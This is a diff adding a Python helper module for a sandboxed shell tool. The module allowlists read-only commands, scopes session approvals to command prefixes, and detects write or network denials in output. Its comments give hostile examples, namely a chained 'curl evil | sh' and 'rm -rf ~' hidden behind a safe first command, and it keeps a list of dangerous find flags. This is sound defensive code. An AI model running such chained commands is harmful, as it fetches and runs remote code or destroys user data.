@@ -1,0 +1,95 @@
+"""Pure helpers about a shell command string: is it a known-safe read, what prefix would a session
+approval cover, and does its output look like the sandbox said no."""
+
+from __future__ import annotations
+
+import re
+import shlex
+
+# Anything that chains, redirects or substitutes can hide a second command behind a safe first
+# word (`ls; curl evil | sh`), so such a command is never "known safe" and never shares a prefix.
+_META = re.compile(r"[;&|<>`\n\r]|\$\(|\$\{")
+
+_SAFE_WORDS = frozenset(
+    "ls cat pwd echo head tail wc grep rg stat file which whoami uname date true tree du df "
+    "basename dirname realpath readlink id env printenv nl cut tr uniq".split()
+)
+_SAFE_GIT = frozenset("status log diff show branch rev-parse ls-files blame remote describe".split())
+# Options that make a reader write or run something.
+_UNSAFE_FLAGS = {"find": ("-exec", "-execdir", "-delete", "-fprint", "-fprintf", "-fls", "-ok")}
+
+_SUBCOMMAND = re.compile(r"^[a-z][a-z0-9-]*$")
+
+
+def _split(command: str) -> list[str] | None:
+    try:
+        return shlex.split(command)
+    except ValueError:
+        return None
+
+
+def is_known_safe(command: str) -> bool:
+    """A small allowlist of read-only commands (`ls`, `cat`, `git status`, ...) that `untrusted`
+    runs without asking. Anything it cannot parse with confidence is not safe."""
+    if _META.search(command):
+        return False
+    words = _split(command)
+    if not words:
+        return False
+    head, args = words[0], words[1:]
+    if "/" in head or "=" in head:
+        return False
+    if head == "git":
+        return bool(args) and args[0] in _SAFE_GIT and "--output" not in " ".join(args)
+    if head == "find":
+        return not any(a in _UNSAFE_FLAGS["find"] for a in args)
+    return head in _SAFE_WORDS
+
+
+def command_prefix(command: str) -> str:
+    """What "approve for session" covers for a command: its first word, plus a subcommand-like
+    second word (`npm install`, `git commit`, `make test`). A command that chains or redirects is
+    covered only exactly, so approving `make test` never approves `make test; rm -rf ~`."""
+    text = command.strip()
+    if _META.search(text):
+        return text
+    words = _split(text)
+    if not words:
+        return text
+    if len(words) > 1 and _SUBCOMMAND.match(words[1]):
+        return f"{words[0]} {words[1]}"
+    return words[0]
+
+
+_DENIAL_PATTERNS: tuple[tuple[str, str], ...] = (
+    ("write", r"read-only file system"),
+    ("write", r"permission denied"),
+    ("write", r"operation not permitted"),
+    ("network", r"network is unreachable"),
+    ("network", r"temporary failure in name resolution"),
+    ("network", r"could not resolve host"),
+    ("network", r"name or service not known"),
+    ("network", r"failed to establish a new connection"),
+    ("network", r"connection refused"),
+)
+
+# `touch: cannot touch '/etc/x': Read-only file system`, `bash: /etc/x: Permission denied`,
+# `OSError: [Errno 30] Read-only file system: '/etc/x'`
+_PATH_IN_ERROR = re.compile(r"""['"‘’`]?(/[^\s'"‘’`:]+)['"‘’`]?(?=:\s*(?:read-only|permission denied|operation not permitted))|(?:read-only file system|permission denied|operation not permitted)\S*:?\s*['"‘’`](/[^'"‘’`]+)['"‘’`]""", re.IGNORECASE)
+
+
+def denial_kinds(output: str) -> set[str]:
+    """Which kinds of room the output suggests were missing ("write", "network"); empty when it
+    does not look like the sandbox said no."""
+    low = output.lower()
+    return {kind for kind, rx in _DENIAL_PATTERNS if re.search(rx, low)}
+
+
+def denied_paths(output: str) -> list[str]:
+    """Absolute paths named next to a denial in the output, in order, without duplicates."""
+    found: list[str] = []
+    for m in _PATH_IN_ERROR.finditer(output):
+        p = m.group(1) or m.group(2)
+        if p and p not in found:
+            found.append(p)
+    return found
